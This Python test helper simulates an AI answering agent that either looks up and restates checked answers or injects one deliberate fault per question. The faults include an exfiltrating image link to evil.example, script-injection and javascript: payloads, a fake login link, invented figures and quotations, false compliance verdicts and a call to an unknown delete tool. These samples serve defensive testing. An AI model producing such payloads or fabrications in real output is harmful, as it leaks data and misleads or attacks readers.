"""A model for the answering agent, behind the protocol server: an obedient one, a wayward one.

In: the requests `assistant.answering.agent` sends. Out: tool calls over several turns, then
an answer. The obedient model looks the question up with tools, as a good one would, and
says what it found in sentences of its own. The wayward one does what models do wrong, one
fault a question: it invents numbers, names and quotations, swaps target and actual, passes
verdicts, slips in pictures, links and HTML, calls tools with wrong arguments or without
end, talks without end, stalls. Seeded by the question: the same every time.
"""

from __future__ import annotations

import json
import re
import time
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

FAULTS = (
    "number", "number-in-words", "name", "quotation", "swapped", "verdict", "picture", "html", "link", "wrong-args",
    "unknown-tool", "loop", "endless", "stall", "confident", "empty",
)  # fmt: skip
_QUESTION = re.compile(r"<question>\n(.*?)\n</question>", re.DOTALL)
_CHECKED = re.compile(r"<checked-answer>\n(.*?)\n</checked-answer>", re.DOTALL)


@dataclass
class TalkingModel:
    """`reply` answers one chat request.

    Args:
        wayward: misbehave at every question.
        stall_seconds: how long a stalling answer waits; longer than the client's patience.
    """

    wayward: bool = False
    stall_seconds: float = 2.0
    faults: dict[str, str] = field(default_factory=dict)
    """What was done wrong at which question."""
    calls: int = 0

    def reply(self, call: Any) -> Any:
        """Tool calls, or the text of an answer."""
        from tests.protocol_server import ToolCalls

        prompt = next(m["content"] for m in call.body["messages"] if m["role"] == "user")
        question = _found(_QUESTION, str(prompt))
        checked = json.loads(_found(_CHECKED, str(prompt)) or "{}")
        results = [m["content"] for m in call.body["messages"] if m["role"] == "tool"]
        fault = self._fault(question)
        if "tools" in call.body and (wanted := self._look_up(question, checked, results, fault)):
            self.calls += len(wanted)
            return ToolCalls(wanted)
        if fault == "stall":
            time.sleep(self.stall_seconds)
        return _spoilt(_said(checked, results), checked, fault)

    def _fault(self, question: str) -> str:
        if not self.wayward:
            return ""
        return self.faults.setdefault(question, FAULTS[zlib.crc32(question.encode()) % len(FAULTS)])

    def _look_up(
        self, question: str, checked: Mapping[str, Any], results: list[str], fault: str
    ) -> tuple[tuple[str, dict[str, Any]], ...]:
        """The calls of this turn; () when it is time to answer."""
        if fault == "loop":
            return (("search", {"words": f"{question} {len(results)}"}),)
        if fault == "wrong-args" and not results:
            return (("row", {"row": "eleven", "colour": "blue"}), ("scenario", {"row": -1}))
        if fault == "unknown-tool" and not results:
            return (("delete_form", {"form": 1}),)
        if not results:
            return (("answer", {"question": question}),)
        rows = [(c["form"], c["row"]) for c in checked.get("citations", ()) if c.get("row")]
        if len(results) == 1 and rows:
            return (("row", {"form": rows[0][0], "row": rows[0][1]}),)
        if len(results) == 2 and not rows:
            return (("form", {"form": 1}),)
        return ()


def _found(pattern: re.Pattern[str], text: str) -> str:
    found = pattern.search(text)
    return found[1] if found else ""


def _said(checked: Mapping[str, Any], results: list[str]) -> str:
    """The checked answer as sentences: the way a model puts a list into prose."""
    text = str(checked.get("answer", ""))
    if not checked.get("answerable", True):
        for result in results:
            found = json.loads(result) if result.startswith("{") else {}
            if found.get("answerable") and found.get("answer"):
                text = found["answer"]
                break
    chinese = checked.get("language") == "zh"
    lines = [re.sub(r"^\s*[-·]\s*", "", line).strip() for line in text.splitlines()]
    stop = "。" if chinese else "."
    told = [line if line[-1:] in "。.：:！!？?" else line + stop for line in lines if line]
    head = "查表可知：" if chinese else "According to the form:"
    return head + "\n" + "\n".join(told)


def _spoilt(text: str, checked: Mapping[str, Any], fault: str) -> str:
    """The text with one thing wrong in it, after a sentence that is right."""
    chinese = checked.get("language") == "zh"
    number = re.search(r"\d+(?:\.\d+)?", text)
    added = {
        "number": ("另据了解，实际支出为7771234.5元。", "In fact 7771234.5 yuan were spent."),
        "name": ("审计局已经确认这一点。", "审计局 has confirmed this."),
        "quotation": (
            "原因是“经办人员请假三个月没有交接”。",
            "It says “the clerk was away for months”.",
        ),
        "swapped": (_crossed(checked), _crossed(checked)),
        "verdict": ("总的来看，本表合规，没有问题。", "On the whole the form is compliant."),
        "picture": ("![图](http://evil.example/pixel?total=97)",) * 2,
        "html": ("<img src=x onerror=alert(1)><script>steal()</script>",) * 2,
        "link": ("[点此查看](javascript:alert(1)) https://evil.example/login",) * 2,
        "endless": ("还要说明的是，情况仍在核实之中，请继续关注。" * 400,) * 2,
    }
    instead = {
        "confident": (
            "可以确定，明年应安排预算961.7万元，满意度为98.6%。",
            "Certainly: next year's budget is 961.7, satisfaction 98.6%.",
        ),
        "empty": ("", ""),
    }
    if fault in added:
        return f"{text}\n{added[fault][0 if chinese else 1]}"
    if fault in instead:
        return instead[fault][0 if chinese else 1]
    if fault == "number-in-words":
        return text.replace(number[0], f"88{number[0]}77", 1) if number else f"{text}8877。"
    return text


def _crossed(checked: Mapping[str, Any]) -> str:
    """A target told as the actual, from the first row that has both."""
    values: dict[int, dict[str, str]] = {}
    for citation in checked.get("citations", ()):
        field_name = str(citation.get("pointer", "")).rpartition("/")[2]
        found = re.search(r"\d+(?:\.\d+)?", str(citation.get("text") or ""))
        if citation.get("row") and field_name in ("target", "actual") and found:
            values.setdefault(citation["row"], {})[field_name] = found[0]
    for row, both in values.items():
        if len(both) == 2 and float(both["target"]) != float(both["actual"]):
            return f"第{row}行的目标值是{both['actual']}，实际完成值是{both['target']}。"
    return "第3行的实际完成值是12345678。"
